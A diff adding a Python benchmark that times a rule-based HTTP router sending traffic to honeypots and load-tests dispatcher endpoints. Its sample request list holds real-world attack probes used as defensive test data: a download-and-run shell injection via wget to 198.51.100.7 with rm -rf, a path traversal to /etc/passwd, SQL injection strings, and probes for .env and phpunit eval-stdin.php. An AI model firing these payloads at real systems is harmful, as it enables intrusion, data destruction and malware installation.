@@ -0,0 +1,163 @@
+from urllib.parse import unquote_plus, urlsplit
+import argparse
+import asyncio
+import json
+import os
+import statistics
+import sys
+import time
+
+BASE_DIR = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+sys.path.insert(0, os.path.join(BASE_DIR, "src"))
+
+from router import rules
+
+RULES_FILE = os.path.join(BASE_DIR, "..", "rules", "http_routes.json")
+
+REQUESTS = (
+  ("/", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"),
+  ("/index.html?lang=en&page=2", "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0"),
+  ("/favicon.ico", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 Safari/605.1.15"),
+  ("/wp-login.php", "Mozilla/5.0 (compatible; Googlebot/2.1)"),
+  ("/xmlrpc.php", "Mozilla/5.0"),
+  ("/blog/wp-includes/wlwmanifest.xml", "Mozilla/5.0"),
+  ("/.env", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"),
+  ("/cgi-bin/.%2e/.%2e/.%2e/etc/passwd", "Mozilla/5.0"),
+  ("/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws;sh+/tmp/jaws", "Hello, world"),
+  ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "Mozilla/5.0"),
+  ("/search?q=1%27%20or%20%271%27%3D%271", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
+  ("/?id=1+union+select+2", "Mozilla/5.0"),
+  ("/?q=1%27+or+%271%27=%271", "Mozilla/5.0"),
+  ("/api/v1/status", "python-requests/2.31.0"),
+  ("/robots.txt", "curl/8.4.0"),
+  ("/login", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X)"),
+)
+
+def naive_route(high: list, wordpress: list, request_uri: str, user_agent: str) -> str:
+  uri = request_uri.lower()
+  decoded = unquote_plus(uri, encoding="latin-1")
+  ua = user_agent.lower()
+  if any(pattern in value for value in (uri, decoded) for pattern in wordpress):
+    return "wordpot"
+  if any(pattern in value for value in (uri, decoded, ua) for pattern in high):
+    return "h0neytr4p"
+  return "heralding"
+
+def bench_router(rounds: int):
+  router = rules.load_router(RULES_FILE)
+  with open(RULES_FILE, "r", encoding="utf-8") as f:
+    data = json.load(f)
+  patterns = {rule["target"]: rule["patterns"] for rule in data["rules"]}
+
+  for uri, ua in REQUESTS:
+    expected = naive_route(patterns["h0neytr4p"], patterns["wordpot"], uri, ua)
+    if router.route(uri, ua) != expected:
+      raise SystemExit(f"route mismatch for {uri!r}: {router.route(uri, ua)} != {expected}")
+
+  total = rounds * len(REQUESTS)
+  started = time.perf_counter()
+  for _ in range(rounds):
+    for uri, ua in REQUESTS:
+      router.route(uri, ua)
+  compiled = time.perf_counter() - started
+
+  started = time.perf_counter()
+  for _ in range(rounds):
+    for uri, ua in REQUESTS:
+      naive_route(patterns["h0neytr4p"], patterns["wordpot"], uri, ua)
+  naive = time.perf_counter() - started
+
+  print(f"compiled router:     {compiled / total * 1e6:.2f} us/request")
+  print(f"linear scan:         {naive / total * 1e6:.2f} us/request")
+
+async def _read_response(reader) -> int:
+  head = await reader.readuntil(b"\r\n\r\n")
+  lines = head.decode("latin-1").split("\r\n")
+  status = int(lines[0].split(" ")[1])
+  headers = {}
+  for line in lines[1:]:
+    name, _, value = line.partition(":")
+    headers[name.strip().lower()] = value.strip()
+
+  if "chunked" in headers.get("transfer-encoding", "").lower():
+    while True:
+      size = int((await reader.readuntil(b"\r\n")).split(b";")[0], 16)
+      await reader.readexactly(size + 2)
+      if size == 0:
+        break
+  elif "content-length" in headers:
+    await reader.readexactly(int(headers["content-length"]))
+  else:
+    await reader.read()
+    return -status
+  return status
+
+async def _client(host: str, port: int, deadline: float, offset: int, latencies: list, statuses: dict):
+  reader = writer = None
+  position = offset
+  while time.perf_counter() < deadline:
+    if writer is None:
+      reader, writer = await asyncio.open_connection(host, port)
+
+    uri, ua = REQUESTS[position % len(REQUESTS)]
+    position += 1
+    request = f"GET {uri} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\n\r\n"
+
+    started = time.perf_counter()
+    try:
+      writer.write(request.encode("latin-1"))
+      status = await _read_response(reader)
+    except (ConnectionError, asyncio.IncompleteReadError):
+      statuses["error"] = statuses.get("error", 0) + 1
+      writer.close()
+      writer = None
+      continue
+    latencies.append(time.perf_counter() - started)
+
+    if status < 0:
+      status = -status
+      writer.close()
+      writer = None
+    statuses[status] = statuses.get(status, 0) + 1
+
+  if writer is not None:
+    writer.close()
+
+async def bench_target(url: str, concurrency: int, duration: float) -> dict:
+  parts = urlsplit(url)
+  host, port = parts.hostname, parts.port or 80
+  latencies = []
+  statuses = {}
+  deadline = time.perf_counter() + duration
+
+  started = time.perf_counter()
+  await asyncio.gather(*(_client(host, port, deadline, i, latencies, statuses) for i in range(concurrency)))
+  elapsed = time.perf_counter() - started
+
+  ordered = sorted(latencies)
+  pick = lambda q: ordered[min(len(ordered) - 1, int(q * len(ordered)))] * 1000 if ordered else 0.0
+  return {
+    "url": url,
+    "requests": len(ordered),
+    "requests_per_second": round(len(ordered) / elapsed, 1),
+    "mean_ms": round(statistics.fmean(ordered) * 1000, 3) if ordered else 0.0,
+    "p50_ms": round(pick(0.50), 3),
+    "p95_ms": round(pick(0.95), 3),
+    "p99_ms": round(pick(0.99), 3),
+    "statuses": {str(key): value for key, value in statuses.items()},
+  }
+
+def main():
+  parser = argparse.ArgumentParser(description="Compare HTTP dispatcher throughput and routing cost.")
+  parser.add_argument("urls", nargs="*", help="dispatcher base URLs, e.g. http://127.0.0.1:80 http://127.0.0.1:8080")
+  parser.add_argument("--concurrency", type=int, default=64)
+  parser.add_argument("--duration", type=float, default=10.0)
+  parser.add_argument("--rounds", type=int, default=20000, help="iterations for the in-process router benchmark")
+  args = parser.parse_args()
+
+  bench_router(args.rounds)
+  for url in args.urls:
+    print(json.dumps(asyncio.run(bench_target(url, args.concurrency, args.duration)), indent=2))
+
+if __name__ == "__main__":
+  main()